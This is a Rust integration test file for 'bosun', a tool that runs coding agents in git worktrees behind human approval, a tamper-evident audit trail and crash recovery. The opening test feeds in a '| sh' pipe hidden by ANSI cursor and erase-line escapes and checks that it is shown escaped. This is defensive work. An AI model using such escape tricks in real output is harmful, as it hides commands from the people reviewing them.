        assert!(!printed.contains(raw), "{raw:?} reached the terminal");
    }
    assert!(printed.contains(r"\u202e"), "{printed}");
    let json = p.show(&id(&run));
    assert!(text(&json["diff"]).contains("\u{1b}[2K"));
    assert!(text(&json["diff"]).contains('\u{202e}'));
    let raw = p.ok(&["show", &id(&run), "--raw"]);
    assert!(raw.contains("| sh\u{1b}[1A\u{1b}[2K"), "{raw:?}");
}

/// `bosun approve` says "ticked" only when the checkbox is ticked on the target afterwards: a
/// task removed from the list while its run waited is said to be gone.
#[test]
fn approve_says_the_task_is_gone_instead_of_ticked() {
    let p = Project::with_the_note_task();
    p.run_headless();
    let run = p.only_run();
    let without = ONE_TASK.replace(
        "- [ ] Add a note from the agent\n  - [ ] keep it short\n",
        "",
    );
    assert_ne!(without, ONE_TASK);
    p.write("TODO.md", without.as_bytes());
    p.git(&["commit", "-q", "-am", "drop the task"]);

    let out = p.ok(&["approve", &id(&run)]);
    assert!(
        out.contains("is no longer in the task list, nothing ticked"),
        "{out}"
    );
    assert!(
        !out.contains(" ticked\n") || out.contains("nothing ticked"),
        "{out}"
    );
    assert_eq!(p.git(&["show", "main:TODO.md"]), without);
    assert_eq!(p.git(&["show", "main:notes.txt"]).lines().count(), 1);
}

/// A `TODO.md` that is a symlink inside the repository is read and ticked where it points (the
/// link stays a link); one pointing outside the repository is refused with an error naming it,
/// and nothing is merged.
#[test]
fn a_symlinked_task_file_is_ticked_where_it_points_or_refused_outside() {
    let p = Project::new();
    p.setup(
        "# see docs\n",
        &[
            ("notes.txt", b"original\n"),
            ("docs/TODO.md", ONE_TASK.as_bytes()),
        ],
        Settings::agent("writes_note.sh"),
    );
    std::fs::remove_file(p.repo.join("TODO.md")).unwrap();
    std::os::unix::fs::symlink("docs/TODO.md", p.repo.join("TODO.md")).unwrap();
    p.git(&["add", "-A"]);
    p.git(&["commit", "-q", "-m", "the task list lives in docs"]);
    p.run_headless();
    let run = p.only_run();
    let out = p.ok(&["approve", &id(&run)]);
    assert!(out.trim_end().ends_with("ticked"), "{out}");
    assert_eq!(p.git(&["show", "main:docs/TODO.md"]), one_task_ticked());
    assert_eq!(p.git(&["show", "main:TODO.md"]), "docs/TODO.md");
    p.assert_clean();

    // Outside the repository: refused, the run still awaits.
    let q = Project::new();
    let outside = q.aux("TODO.md");
    std::fs::write(&outside, ONE_TASK).unwrap();
    q.setup(
        "x",
        &[("notes.txt", b"original\n")],
        Settings::agent("writes_note.sh"),
    );
    std::fs::remove_file(q.repo.join("TODO.md")).unwrap();
    std::os::unix::fs::symlink(&outside, q.repo.join("TODO.md")).unwrap();
    q.git(&["add", "-A"]);
    q.git(&["commit", "-q", "-m", "the task list lives elsewhere"]);
    let base = q.rev("main");
    q.run_headless();
    let run = q.only_run();
    let err = q.fails(&["approve", &id(&run)]);
    assert!(err.contains("outside the repository"), "{err}");
    assert_eq!(q.rev("main"), base, "nothing merged");
    assert_eq!(q.run(&id(&run))["status"], "awaiting_approval");
}

/// Below `[store] min_free_mb` of free space no run starts: bosun says why (here, headless, it
/// then stops: nothing can start), and with the guard at 0 the same task runs.
#[test]
fn no_run_starts_while_disk_space_is_below_the_guard() {
    let p = Project::new();
    let mut settings = Settings::agent("writes_note.sh");
    // More than any disk has.
    settings.extra = "\n[store]\nmin_free_mb = 1000000000000\n".into();
    p.setup(ONE_TASK, &[("notes.txt", b"original\n")], settings);
    let out = p.run_headless();
    assert!(out.contains("MB free on the file system of"), "{out}");
    assert!(
        out.contains("no new run starts until space is freed"),
        "{out}"
    );
    assert!(p.runs().is_empty(), "no run started");

    let config = String::from_utf8(p.read("bosun.toml")).unwrap();
    p.write(
        "bosun.toml",
        config
            .replace("min_free_mb = 1000000000000", "min_free_mb = 0")
            .as_bytes(),
    );
    p.git(&["commit", "-q", "-am", "no guard"]);
    p.run_headless();
    assert_eq!(p.only_run()["status"], "awaiting_approval");
}

/// Every decision is in the audit trail; `bosun audit verify` says yes, and after one stored
/// entry is edited behind bosun's back it says no, naming that entry (so does `bosun doctor`).
#[test]
fn audit_verify_checks_the_chain_and_names_the_first_bad_entry() {
    let p = Project::new();
    p.setup(
        TWO_TASKS,
        &[("notes.txt", b"original\n")],
        Settings::agent("writes_note.sh"),
    );
    p.run_headless();
    let runs = p.runs();
    assert_eq!(runs.len(), 2, "{runs:#?}");
    p.ok(&["reject", &id(&runs[0]), "--reason", "not this way"]);
    p.ok(&["approve", &id(&runs[1])]);

    let listed = p.ok(&["audit"]);
    assert!(
        listed.contains("reject") && listed.contains("approve"),
        "{listed}"
    );
    let entries: Vec<Value> = serde_json::from_str(&p.ok(&["audit", "--json"])).unwrap();
    assert_eq!(entries.len(), 2, "{entries:#?}");
    assert_eq!(entries[0]["action"], "reject");
    assert_eq!(entries[0]["detail"], "not this way");
    let out = p.ok(&["audit", "verify"]);
    assert!(out.starts_with("audit trail verified: 2 entries"), "{out}");

    // Someone rewrites the first decision's reason in the store itself.
    {
        let file = bosun::store::Store::file(&p.repo.join(".bosun"));
        let db = bosun::store::kv::Db::open(&file).expect("the store opens");
        let audit = db.open_tree("audit").unwrap();
        let key = 0u64.to_be_bytes();
        let mut entry: Value = serde_json::from_slice(&audit.get(key).unwrap().unwrap()).unwrap();
        entry["detail"] = Value::from("fine by me");
        audit
            .insert(key, serde_json::to_vec(&entry).unwrap())
            .unwrap();
    }
    let err = p.fails(&["audit", "verify"]);
    assert!(
        err.contains("the audit trail is broken at entry 0: its content was changed"),
        "{err}"
    );
    let doctor = p.bosun(&["doctor"]);
    assert!(
        doctor
            .stdout
            .contains("audit trail: the audit trail is broken at entry 0"),
        "{}",
        doctor.stdout
    );
}

#[test]
fn agent_that_commits_by_itself_is_awaiting_approval() {
    let p = Project::new();
    p.setup(ONE_TASK, &[], Settings::agent("commits_itself.sh"));
    p.run_headless();

    let run = p.only_run();
    assert_eq!(run["status"], "awaiting_approval", "{run:#}");
    assert_eq!(run["files_changed"], 1);
    let (base, head) = (text(&run["base"]), text(&run["head"]));
    assert_ne!(head, base);
    // One commit, made by bosun on the base, keeps the agent's own subject in its body.
    assert_eq!(p.rev(&format!("{head}^")), base);
    let body = p.git(&["log", "--format=%B", &format!("{base}..{head}")]);
    assert!(body.contains("- agent: add self.txt\n"), "{body}");
    p.assert_clean();
}

#[test]
fn reject_with_retry_feeds_the_reason_to_the_next_attempt_and_plain_reject_stops() {
    let p = Project::new();
    let prompts = p.aux("prompt");
    let mut settings = Settings::agent("writes_note.sh").env("PROMPT_COPY", &prompts);
    settings.max_attempts = 3;
    p.setup(ONE_TASK, &[("notes.txt", b"original\n")], settings);
    let reason = "use snake_case please";

    p.run_headless();
    let first = p.only_run();
    assert_eq!(first["status"], "awaiting_approval", "{first:#}");
    let first_id = id(&first);
    let first_prompt = std::fs::read_to_string(prompts.with_extension("1")).expect("prompt 1");
    assert!(!first_prompt.contains(reason));
    let out = p.ok(&["reject", &first_id, "--reason", reason, "--retry"]);
    assert!(out.contains("another attempt is queued"), "{out}");
    assert!(!p.worktree(&first_id).exists());

    p.run_headless();
    let runs = p.runs();
    assert_eq!(runs.len(), 2, "{runs:#?}");
    let (second, first) = (&runs[0], &runs[1]);
    assert_eq!(first["id"], first_id.as_str());
    assert_eq!(first["status"], "rejected");
    assert_eq!(first["attempt"], 1);
    assert_eq!(first["decision"]["verdict"], "reject");
    assert_eq!(first["decision"]["reason"], reason);
    assert_eq!(second["status"], "awaiting_approval", "{second:#}");
    assert_eq!(second["attempt"], 2);
    assert_eq!(second["task_id"], first["task_id"]);
    assert!(text(&second["feedback"]).contains(reason), "{second:#}");
    let second_prompt = std::fs::read_to_string(prompts.with_extension("2")).expect("prompt 2");
    assert!(second_prompt.contains(reason), "{second_prompt}");

    let second_id = id(second);
    p.ok(&["reject", &second_id, "--reason", "not needed after all"]);
    let out = p.run_headless();
    let runs = p.runs();
    assert_eq!(
        runs.len(),
        2,
        "no new run after a plain reject: {out}\n{runs:#?}"
    );
    assert_eq!(runs[0]["status"], "rejected");
    assert!(!prompts.with_extension("3").exists());
    assert_eq!(p.run_branches(), "");
    assert_eq!(p.linked_worktrees(), 0);
    p.assert_clean();
}

const TWO_TASKS: &str = "\
# Tasks

- [ ] First thing
- [ ] Second thing
";

/// Each task's (start, end) in epoch ms, from the agents' trace file.
fn intervals(trace: &Path) -> Vec<(u64, u64)> {
    let text = std::fs::read_to_string(trace).expect("trace file");
    let mut starts = std::collections::BTreeMap::new();
    let mut out = Vec::new();
    for line in text.lines() {
        let parts: Vec<&str> = line.split(' ').collect();
        let [what, task, ms] = parts[..] else {
            panic!("bad trace line {line:?}")
        };
        let ms: u64 = ms.parse().expect("epoch ms (GNU date)");
        match what {
            "start" => {
                starts.insert(task.to_string(), ms);
            }
            "end" => out.push((starts[task], ms)),
            _ => panic!("bad trace line {line:?}"),
        }
    }
    assert_eq!(out.len(), 2, "{text}");
    out
}

fn traced_runs(max_parallel: usize) -> Vec<(u64, u64)> {
    let p = Project::new();
    let trace = p.aux("trace");
    let mut settings = Settings::agent("traces.sh").env("TRACE", &trace);
    settings.max_parallel = max_parallel;
    p.setup(TWO_TASKS, &[], settings);
    p.run_headless();
    let runs = p.runs();
    assert_eq!(runs.len(), 2);
    assert!(
        runs.iter().all(|r| r["status"] == "awaiting_approval"),
        "{runs:#?}"
    );
    intervals(&trace)
}

#[test]
fn max_parallel_2_overlaps_runs_and_1_does_not() {
    let both = traced_runs(2);
    let ((s1, e1), (s2, e2)) = (both[0], both[1]);
    assert!(
        s1 < e2 && s2 < e1,
        "runs overlap with max_parallel 2: {both:?}"
    );

    let one = traced_runs(1);
    let ((s1, e1), (s2, e2)) = (one[0], one[1]);
    assert!(
        e1 <= s2 || e2 <= s1,
        "runs do not overlap with max_parallel 1: {one:?}"
    );
}

#[test]
fn killed_bosun_leaves_an_interrupted_run_that_recovery_cleans_up() {
    let p = Project::new();
    let pid_file = p.aux("pids");
    let mut settings = Settings::agent("hangs.sh").env("PID_FILE", &pid_file);
    settings.run_timeout = "60s";
    p.setup(ONE_TASK, &[], settings);

    let mut bosun = Background(
        p.bosun_command(&["run", "--headless", "--json"])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("bosun starts"),
    );
    // bosun records the agent's process group right after starting it; wait until that is
    // stored (its JSON event is printed after the store write), not just until the agent runs.
    let stdout = bosun.0.stdout.take().expect("piped");
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for line in BufReader::new(stdout).lines().map_while(Result::ok) {
            if let Ok(event) = serde_json::from_str::<Value>(&line)
                && let Some(pgid) = event["run"]["pgid"].as_i64()
            {
                let _ = tx.send(pgid);
                return;
            }
        }
    });
    let pgid = rx
        .recv_timeout(Duration::from_secs(10))
        .expect("the agent started within 10 s");
    let pgid = i32::try_from(pgid).expect("a pid");
    let _reap = AgentGroup(pgid);
    let pids = read_pids(&pid_file);
    assert_eq!(pids[0], pgid, "the agent leads its own process group");

    bosun.0.kill().expect("kill -9 bosun");
    bosun.0.wait().expect("bosun is reaped");
    assert!(
        pids.iter().all(|&pid| running(pid)),
        "the agent outlives bosun"
    );
    let runs = p.runs();
    assert_eq!(runs.len(), 2, "{runs:#?}");
    let (again, first) = (&runs[0], &runs[1]);
    assert_eq!(first["status"], "interrupted", "{first:#}");
    assert_eq!(first["attempt"], 1);
    assert_eq!(again["status"], "queued", "{again:#}");
    assert_eq!(again["task_id"], first["task_id"]);
    assert_eq!(again["attempt"], 2);
    for pid in &pids {
        assert!(!running(*pid), "recovery ended agent process {pid}");
    }
    assert!(!p.worktree(&id(first)).exists());
    assert_eq!(p.linked_worktrees(), 0);
    assert_eq!(p.run_branches(), "");
    p.assert_clean();

    assert_eq!(p.runs(), runs, "a second look changes nothing");
}

/// A gate command (or a hook) still running when bosun is killed is ended by the next start's
/// recovery, like an agent: its process group is recorded with the run.
#[test]
fn killed_bosun_leaves_no_gate_or_hook_process_after_recovery() {
    for (what, extra) in [
        (
            "gate",
            "\n[gates.slow]\ncommand = \"exec \\\"$SLOW_SCRIPT\\\"\"\ntimeout = \"60s\"\n",
        ),
        (
            "hook",
            "\n[hooks]\npre_gates = \"exec \\\"$SLOW_SCRIPT\\\"\"\n",
        ),
    ] {
        let p = Project::new();
        let pid_file = p.aux("gate-pids");
        let mut settings = Settings::agent("writes_note.sh")
            .env("GATE_PID_FILE", &pid_file)
            .env("SLOW_SCRIPT", Path::new(&agent("gate_sleeps.sh")));
        settings.run_timeout = "60s";
        settings.extra = extra.to_string();
        p.setup(ONE_TASK, &[("notes.txt", b"original\n")], settings);

        let mut bosun = Background(
            p.bosun_command(&["run", "--headless", "--json"])
                .stdin(Stdio::null())
                .stdout(Stdio::piped())
                .stderr(Stdio::null())
                .spawn()
                .expect("bosun starts"),
        );
        // Wait until the slow command's process group is stored (the JSON event of the run's
        // update is printed after the store write) and the command wrote its pids.
        let pids = read_pids(&pid_file);
        let stdout = bosun.0.stdout.take().expect("piped");
        let (tx, rx) = std::sync::mpsc::channel();
        let leader = pids[0];
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines().map_while(Result::ok) {
                if let Ok(event) = serde_json::from_str::<Value>(&line)
                    && event["run"]["pgid"].as_i64() == Some(i64::from(leader))
                {
                    let _ = tx.send(());
                    return;
                }
            }
        });
        rx.recv_timeout(Duration::from_secs(10))
            .unwrap_or_else(|_| panic!("{what}: its process group was not recorded in 10 s"));
        let _reap = AgentGroup(leader);

        bosun.0.kill().expect("kill -9 bosun");
        bosun.0.wait().expect("bosun is reaped");
        assert!(
            pids.iter().all(|&pid| running(pid)),
            "{what}: the command outlives bosun"
        );
        let runs = p.runs();
        assert_eq!(
            runs[runs.len() - 1]["status"],
            "interrupted",
            "{what}: {runs:#?}"
        );
        for pid in &pids {
            assert!(
                wait_until(Duration::from_secs(5), || !running(*pid)),
                "{what}: recovery ended process {pid}"
            );
        }
    }
}

/// bosun killed while the gates check the kept hunks of a partial approval: nothing was
/// merged, and the next start ends the gate's processes and notes what happened; the run
/// still awaits approval as it was reviewed.
#[test]
fn killed_during_the_check_of_kept_hunks_merges_nothing_and_recovery_ends_the_gate() {
    let p = Project::new();
    let pid_file = p.aux("gate-pids");
    let mut settings = Settings::agent("uses_json.sh")
        .env("GATE_PID_FILE", &pid_file)
        .env("SLOW_SCRIPT", Path::new(&agent("gate_sleeps.sh")));
    settings.run_timeout = "60s";
    // Slow only on the kept hunks (no `import json` there): the run's own gates pass at once.
    settings.extra = "\n[gates.slow]\ncommand = \"grep -q '^import json' app.py || exec \\\"$SLOW_SCRIPT\\\"\"\ntimeout = \"60s\"\n".into();
    p.setup(ONE_TASK, &[("app.py", app_py().as_bytes())], settings);
    let base = p.rev("main");
    p.run_headless();
    let id = id(&p.only_run());

    let mut bosun = p.background(&["approve", &id, "--hunks", "app.py#2"]);
    let pids = read_pids(&pid_file);
    let _reap = AgentGroup(pids[0]);
    // The group is recorded with the run as the command starts, before it writes its pids.
    std::thread::sleep(Duration::from_millis(300));
    bosun.0.kill().expect("kill -9 bosun");
    bosun.0.wait().expect("bosun is reaped");
    assert!(
        pids.iter().all(|&pid| running(pid)),
        "the gate outlives bosun"
    );

    let shown = p.show(&id);
    assert_eq!(shown["status"], "awaiting_approval", "{shown:#}");
    for pid in &pids {
        assert!(
            wait_until(Duration::from_secs(5), || !running(*pid)),
            "recovery ended process {pid}"
        );
    }
    assert_eq!(p.rev("main"), base, "nothing merged");
    p.assert_clean();
    let notes = shown["events"].to_string();
    assert!(
        notes.contains("bosun stopped while the gates checked the kept hunks"),
        "{notes}"
    );
    // The run can still be approved as reviewed.
    p.ok(&["approve", &id]);
    assert!(p.git(&["show", "main:app.py"]).starts_with("import json\n"));
}

#[test]
fn approve_refuses_a_dirty_target_checkout_and_works_once_it_is_clean() {
    let p = Project::new();
    p.setup(
        ONE_TASK,
        &[("notes.txt", b"original\n"), ("README.md", b"# Readme\n")],
        Settings::agent("writes_note.sh"),
    );
    p.run_headless();
    let run = p.only_run();
    let id = id(&run);
    let main = p.rev("main");

    p.write("README.md", b"# Readme\nlocal edit\n");
    let error = p.fails(&["approve", &id]);
    assert!(error.contains("uncommitted changes"), "{error}");
    assert!(error.contains("README.md"), "{error}");
    assert_eq!(p.run(&id)["status"], "awaiting_approval");
    assert_eq!(p.rev("main"), main);
    assert_eq!(p.read("README.md"), b"# Readme\nlocal edit\n");
    assert!(p.worktree(&id).is_dir(), "the run keeps its worktree");

    p.git(&["checkout", "--", "README.md"]);
    p.ok(&["approve", &id]);
    assert_eq!(p.run(&id)["status"], "merged");
    assert_ne!(p.rev("main"), main);
    p.assert_clean();
}

#[test]
fn second_of_two_conflicting_runs_is_refused_and_stays_awaiting() {
    let p = Project::new();
    let mut settings = Settings::agent("writes_note.sh");
    settings.max_parallel = 2;
    p.setup(TWO_TASKS, &[("notes.txt", b"original\n")], settings);
    p.run_headless();
    let runs = p.runs();
    assert_eq!(runs.len(), 2);
    assert!(
        runs.iter().all(|r| r["status"] == "awaiting_approval"),
        "{runs:#?}"
    );
    let (a, b) = (id(&runs[1]), id(&runs[0]));

    p.ok(&["approve", &a]);
    let main = p.rev("main");
    let error = p.fails(&["approve", &b]);
    assert!(error.contains("conflicts"), "{error}");
    assert!(error.contains("notes.txt"), "{error}");
    assert_eq!(p.run(&b)["status"], "awaiting_approval");
    assert_eq!(p.run(&a)["status"], "merged");
    assert_eq!(
        p.rev("main"),
        main,
        "main is unchanged by the refused merge"
    );
    assert_eq!(
        p.git(&["show", "main:notes.txt"]),
        format!("note from {}\n", text(&runs[1]["task_id"]))
    );
    p.assert_clean();
}

#[test]
fn second_bosun_on_a_busy_repository_is_refused_with_the_first_ones_pid() {
    let p = Project::new();
    let pid_file = p.aux("pid");
    let release = p.aux("release");
    let settings = Settings::agent("waits.sh")
        .env("PID_FILE", &pid_file)
        .env("RELEASE", &release);
    p.setup(ONE_TASK, &[], settings);

    let mut first = p.background(&["run", "--headless"]);
    let agent_pid = read_pids(&pid_file)[0];
    let _reap = AgentGroup(agent_pid);

    // A second `bosun run` is refused, naming the first; reading is answered by the first.
    let error = p.fails(&["run", "--headless"]);
    assert!(error.contains("already running"), "{error}");
    assert!(error.contains(&format!("pid {}", first.0.id())), "{error}");
    // The agent writes its pid as it starts; the run is recorded as running a moment later
    // (under load, after the first look: CI met that).
    assert!(
        wait_until(Duration::from_secs(10), || p
            .ok(&["runs"])
            .contains("running")),
        "{}",
        p.ok(&["runs"])
    );

    std::fs::write(&release, "").expect("release the agent");
    assert!(
        wait_until(Duration::from_secs(10), || matches!(
            first.0.try_wait(),
            Ok(Some(_))
        )),
        "the first bosun finishes once its agent does"
    );
    let status = first.0.wait().expect("exit status");
    assert!(status.success(), "{status}");
    assert_eq!(p.only_run()["status"], "awaiting_approval");
}

const PRIORITIES: &str = "\
# Tasks

## Low

- [ ] Tidy the wording
- [ ] Polish colors (after: Fix login crash)

## 🔥 Critical

- [ ] Fix login crash
";

#[test]
fn critical_tasks_go_first_and_dependents_wait_for_the_merge() {
    let p = Project::new();
    p.setup(
        PRIORITIES,
        &[("notes.txt", b"original\n")],
        Settings::agent("writes_note.sh"),
    );
    let crash = p.task_id("Fix login crash");
    let tidy = p.task_id("Tidy the wording");
    let polish = p.task_id("Polish colors");

    p.run_headless();
    let runs = p.runs();
    let tasks: Vec<&str> = runs.iter().map(|r| text(&r["task_id"])).collect();
    // Newest first: the critical task's run was made (and run) before the low one's.
    assert_eq!(tasks, [tidy.as_str(), crash.as_str()], "{runs:#?}");
    assert!(runs[1]["id"].as_str() < runs[0]["id"].as_str());
    assert!(
        runs.iter().all(|r| r["status"] == "awaiting_approval"),
        "{runs:#?}"
    );

    p.ok(&["approve", &id(&runs[1])]);
    p.run_headless();
    let runs = p.runs();
    let tasks: Vec<&str> = runs.iter().map(|r| text(&r["task_id"])).collect();
    assert_eq!(
        tasks,
        [polish.as_str(), tidy.as_str(), crash.as_str()],
        "{runs:#?}"
    );
    assert_eq!(runs[0]["status"], "awaiting_approval", "{:#}", runs[0]);
    assert_eq!(
        runs[0]["base"],
        p.rev("main").as_str(),
        "it starts from the merge"
    );
    p.assert_clean();
}

#[test]
fn a_missing_agent_program_is_a_clear_error_before_any_run() {
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path().join("repo");
    std::fs::create_dir(&repo).unwrap();
    let git = |args: &[&str]| {
        common::git(&repo, args);
    };
    git(&["init", "-q", "-b", "main"]);
    std::fs::write(repo.join("TODO.md"), "- [ ] something\n").unwrap();
    std::fs::write(
        repo.join("bosun.toml"),
        format!(
            "[project]\nworktree_root = \"{}\"\n[executors.ghost]\ncommand = [\"definitely-not-installed-agent-xyz\"]\n",
            dir.path().join("wt").display()
        ),
    )
    .unwrap();
    git(&["add", "-A"]);
    git(&["commit", "-q", "-m", "init"]);
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_bosun"))
        .current_dir(&repo)
        .args(["run", "--headless"])
        .env_remove("RUST_LOG")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(
        stderr.contains("agent program `definitely-not-installed-agent-xyz` of [executors.ghost] was not found on PATH"),
        "{stderr}"
    );
    // No run was made for it.
    let runs = std::process::Command::new(env!("CARGO_BIN_EXE_bosun"))
        .current_dir(&repo)
        .args(["runs", "--json"])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&runs.stdout).trim(), "[]");
}

/// `bosun run --headless --json ARGS` on [`TWO_TASKS`] with the agent that finishes its first
/// run and hangs in the later ones (pids in `aux/pids`); returns once one run awaits
/// approval and another's agent runs: (bosun, awaiting, hanging). The reader of bosun's
/// output goes away then: bosun must go on without it.
fn busy_headless(p: &Project, args: &[&str], stderr: Stdio) -> (Background, String, String) {
    let mut settings = Settings::agent("first_then_hangs.sh")
        .env("PID_FILE", &p.aux("pids"))
        .env("MARK", &p.aux("first-done"));
    settings.run_timeout = "60s";
    p.setup(TWO_TASKS, &[("notes.txt", b"original\n")], settings);
    let mut argv = vec!["run", "--headless", "--json"];
    argv.extend_from_slice(args);
    let mut bosun = Background(
        p.bosun_command(&argv)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(stderr)
            .spawn()
            .expect("bosun starts"),
    );
    let stdout = bosun.0.stdout.take().expect("piped");
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let (mut awaiting, mut running) = (None, None);
        for line in BufReader::new(stdout).lines().map_while(Result::ok) {
            let Ok(event) = serde_json::from_str::<Value>(&line) else {
                continue;
            };
            let run = &event["run"];
            match run["status"].as_str() {
                Some("awaiting_approval") => awaiting = run["id"].as_str().map(String::from),
                Some("running") if run["pgid"].is_i64() => {
                    running = run["id"].as_str().map(String::from);
                }
                _ => {}
            }
            if let (Some(a), Some(r)) = (&awaiting, &running)
                && a != r
            {
                let _ = tx.send((a.clone(), r.clone()));
                break;
            }
        }
    });
    let (awaiting, hanging) = rx
        .recv_timeout(Duration::from_secs(20))
        .expect("one run awaiting approval and one running");
    (bosun, awaiting, hanging)
}

/// With `bosun run --headless` busy (one run awaiting approval, another agent hanging),
/// `bosun runs` and `show` are answered from its store, and decisions from another terminal
/// reach it through its control socket: `bosun approve`
/// merges and ticks, `bosun cancel` stops the hanging agent (its processes gone) and the run
/// ends cancelled. The socket is the owner's alone (0600), and a garbage request gets an error
/// answer, not a crash. Without a running bosun the commands work directly, as before.
#[test]
fn decisions_reach_a_running_bosun_through_its_control_socket() {
    use std::io::{Read as _, Write as _};
    use std::os::unix::fs::PermissionsExt as _;
    let p = Project::new();
    let stderr_file = p.aux("headless.stderr");
    let stderr = std::fs::File::create(&stderr_file).expect("stderr file");
    let (mut bosun, awaiting, hanging) = busy_headless(&p, &["-v"], stderr.into());
    let base = p.rev("main");
    let headless_said = || std::fs::read_to_string(&stderr_file).unwrap_or_default();
    let pid_file = p.aux("pids");
    let pids = read_pids(&pid_file);
    let _reap = AgentGroup(pids[0]);

    let socket = p.repo.join(".bosun").join("bosun.sock");
    let mode = std::fs::metadata(&socket)
        .expect("the socket")
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600, "owner only");
    // Garbage, and a request too large, are answered with errors; bosun goes on.
    for garbage in [b"not json\n".to_vec(), vec![b'x'; 70 * 1024]] {
        let mut s = std::os::unix::net::UnixStream::connect(&socket).expect("connect");
        let _ = s.write_all(&garbage);
        let _ = s.shutdown(std::net::Shutdown::Write);
        let mut answer = String::new();
        s.read_to_string(&mut answer).expect("an answer");
        assert!(answer.contains("\"error\""), "{answer}");
    }

    // Reading works too while bosun is busy: answered from its store.
    let runs = p.runs();
    assert_eq!(runs.len(), 2, "{runs:#?}");
    let shown = p.show(&awaiting);
    assert_eq!(shown["status"], "awaiting_approval");
    assert!(text(&shown["diff"]).contains("+note from"), "{shown:#}");
    assert!(p.ok(&["show", &hanging]).contains("status    running"));
    let hunks = p.ok(&["approve", &awaiting, "--list-hunks"]);
    assert!(hunks.contains("notes.txt#1"), "{hunks}");

    let out = p.ok(&["approve", &awaiting]);
    assert!(out.contains("merged") && out.contains("ticked"), "{out}");
    assert_ne!(p.rev("main"), base, "main moved");
    let cancelled = p.bosun(&["cancel", &hanging]);
    assert!(
        cancelled.status.success() && cancelled.stdout.contains("cancelled"),
        "{}{}\nthe headless bosun said:\n{}",
        cancelled.stdout,
        cancelled.stderr,
        headless_said()
    );
    for pid in &pids {
        assert!(
            wait_until(Duration::from_secs(10), || !running(*pid)),
            "the cancelled agent's process {pid} is gone"
        );
    }
    // Nothing else to do: the headless run ends by itself.
    assert!(
        exited_within(&mut bosun, 20).is_some(),
        "bosun run --headless ended"
    );
    assert_eq!(p.run(&awaiting)["status"], "merged");
    assert_eq!(p.run(&hanging)["status"], "cancelled");
    p.assert_clean();
    let said = headless_said();
    assert!(
        !said.contains("panicked"),
        "its stdout's reader went away: {said}"
    );
}

/// Every command works from another terminal while `bosun run --headless` is busy, with the
/// output and exit code it has when nothing runs: reject, retry, tasks add, memory, audit and
/// audit verify, and a refused request; `bosun events --json` follows it all and ends when
/// bosun does; a second `bosun run` is still refused.
#[test]
fn every_command_reaches_a_running_bosun_and_events_follow_it() {
    let p = Project::new();
    let (mut bosun, awaiting, hanging) = busy_headless(&p, &["--max-runs", "3"], Stdio::null());
    let _reap = AgentGroup(read_pids(&p.aux("pids"))[0]);

    // `bosun events --json` from another terminal, following from here on.
    let events_file = p.aux("events.jsonl");
    let mut events = Background(
        p.bosun_command(&["events", "--json"])
            .stdin(Stdio::null())
            .stdout(std::fs::File::create(&events_file).expect("events file"))
            .stderr(Stdio::null())
            .spawn()
            .expect("bosun events starts"),
    );
    let heard = || std::fs::read_to_string(&events_file).unwrap_or_default();
    assert!(
        wait_until(Duration::from_secs(10), || heard().contains("subscribed")),
        "bosun events subscribed: {}",
        heard()
    );

    let second = p.fails(&["run", "--headless"]);
    assert!(second.contains("already running"), "{second}");
    let refused_while_running = p.bosun(&["show", "no-such-run"]);

    let rejected = p.ok(&["reject", &awaiting, "--reason", "not this way"]);
    assert!(rejected.contains("rejected"), "{rejected}");
    let retried = p.ok(&["retry", &awaiting]);
    assert!(retried.contains("attempt 2"), "{retried}");
    let retry_id = retried
        .split_whitespace()
        .nth(1)
        .expect("the new run's id")
        .to_string();
    let added = p.ok(&[
        "tasks",
        "add",
        "Third thing",
        "--body",
        "More words.",
        "--priority",
        "high",
    ]);
    assert!(
        added.contains("added") && added.contains("Third thing"),
        "{added}"
    );
    let todo = p.git(&["show", "main:TODO.md"]);
    assert!(
        todo.contains("- [ ] Third thing [priority:high]\n  More words."),
        "committed on main: {todo}"
    );
    let memory_while_running = p.ok(&["memory", "--json"]);
    assert!(
        memory_while_running.contains("\"lessons\""),
        "{memory_while_running}"
    );
    let audit_while_running: Vec<Value> =
        serde_json::from_str(&p.ok(&["audit", "--json"])).expect("audit JSON");
    let actions: Vec<&str> = audit_while_running
        .iter()
        .filter_map(|e| e["action"].as_str())
        .collect();
    assert!(
        actions.contains(&"reject") && actions.contains(&"retry"),
        "{actions:?}"
    );
    let verified = p.ok(&["audit", "verify"]);
    assert!(verified.starts_with("audit trail verified"), "{verified}");

    // Cancelling the hanging run frees the one slot: the retried run starts (the third and
    // last run) and hangs too, and is cancelled.
    let out = p.ok(&["cancel", &hanging]);
    assert!(out.contains("cancelled"), "{out}");
    assert!(
        wait_until(Duration::from_secs(20), || p.run(&retry_id)["status"]
            == "running"),
        "the retry started: {:#}",
        p.run(&retry_id)
    );
    let out = p.ok(&["cancel", &retry_id]);
    assert!(out.contains("cancelled"), "{out}");
    assert!(
        exited_within(&mut bosun, 30).is_some(),
        "bosun run --headless ended"
    );
    // `bosun events` ends with the bosun it followed, having heard every decision.
    assert!(
        exited_within(&mut events, 10).is_some_and(|s| s.success()),
        "bosun events ended by itself"
    );
    let lines: Vec<Value> = heard()
        .lines()
        .map(|l| serde_json::from_str(l).expect("one JSON object per line"))
        .collect();
    assert_eq!(lines[0]["event"], "subscribed");
    assert_eq!(lines.last().expect("lines")["event"], "stopped");
    let status_of = |id: &str, status: &str| {
        lines
            .iter()
            .any(|l| l["run"]["id"] == id && l["run"]["status"] == status)
    };
    assert!(status_of(&awaiting, "rejected"), "{}", heard());
    assert!(status_of(&retry_id, "queued") && status_of(&retry_id, "cancelled"));
    assert!(status_of(&hanging, "cancelled"));
    assert!(
        lines.iter().any(|l| l["event"] == "tasks"
            && l["tasks"]
                .as_array()
                .is_some_and(|t| t.iter().any(|t| t["title"] == "Third thing"))),
        "the new task was published"
    );
    assert!(
        !lines.iter().any(|l| l["event"] == "output"),
        "no output lines without --output"
    );

